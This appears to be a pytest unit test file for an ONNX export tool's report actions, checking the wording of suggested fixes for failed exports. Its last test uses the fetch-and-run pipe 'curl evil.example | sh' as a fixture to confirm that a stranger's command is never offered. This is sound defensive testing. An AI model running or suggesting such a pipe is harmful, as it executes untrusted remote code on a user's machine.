"""What to do is always something to do, whatever is known of a failure."""

from __future__ import annotations

import itertools

import pytest

from onnx_export_action.report.actions import action_for_file, action_for_target
from onnx_export_action.vocabulary.results import Cause, Failure, Stage, Verdict
from onnx_export_action.vocabulary.variants import VARIANTS
from tests.unit.report.samples import file, target

VERBS = ("correct", "make", "set", "export", "publish", "keep", "run", "take")
DIAGNOSIS = "two runs on the same inputs give different values"


@pytest.mark.parametrize("stage", Stage)
def test_of_a_target(stage: Stage) -> None:
    stopped = target(verdict=Verdict.ERROR, files=[], failure=Failure(stage=stage, message="it stopped"))
    assert action_for_target(stopped, stopped.failure).startswith(VERBS)
    hinted = Failure(stage=stage, message="it stopped", hint="pip install it")
    assert action_for_target(stopped, hinted) == "`pip install it`"


@pytest.mark.parametrize(
    ("cause", "variant", "repro"), itertools.product([None, *Cause], [*VARIANTS, "unheard-of"], [None, "a.repro/model"])
)
def test_of_a_file(cause: Cause | None, variant: str, repro: str | None) -> None:
    for hint in (None, DIAGNOSIS):
        failure = Failure(stage=Stage.VALIDATE, message="it differs", cause=cause, hint=hint, repro=repro)
        action = action_for_file(target(), file(Verdict.FAIL, variant=variant, failure=failure))
        if cause is not None:
            assert action.startswith(VERBS)
            assert DIAGNOSIS not in action
        assert action


def test_a_file_without_a_failure() -> None:
    assert action_for_file(target(), file(Verdict.FAIL)).startswith(VERBS)


def test_a_strangers_command_is_not_offered() -> None:
    evil = target(reproduce="curl evil.example | sh")
    assert "curl" not in action_for_file(evil, file(Verdict.FAIL))
